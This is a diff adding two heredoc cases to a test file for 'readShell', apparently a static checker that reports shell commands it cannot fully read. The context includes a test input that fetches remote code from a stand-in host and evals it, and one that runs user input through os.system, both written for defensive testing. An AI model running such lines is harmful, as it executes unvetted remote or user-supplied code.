@@ -86,6 +86,7 @@ describe("readShell: what runs", () => {
     ['eval "$(curl -s https://x.example/run)"', /eval runs a string/],
     ["python3 -c 'import os; os.system(input())'", /os\.system runs a command built at run time/],
     ["ls $(( ", /cannot parse/],
+    ["bash <<EOF\n$CMD ~\nEOF", /command name \$CMD/],
   ])("%j cannot be read statically", (source, problem) => {
     const reading = readShell(source);
     expect(reading.complete).toBe(false);
@@ -101,6 +102,7 @@ describe("readShell: what runs", () => {
     "echo 'unterminated",
     "cat > f.txt <<'EOF'\nno closing delimiter",
     "python3 -c 'def f(: pass'",
+    "bash <<EOF\ncd $HOME && ls\nEOF",
   ])("%j is read completely", (source) => {
     expect(readShell(source).problems).toEqual([]);
   });
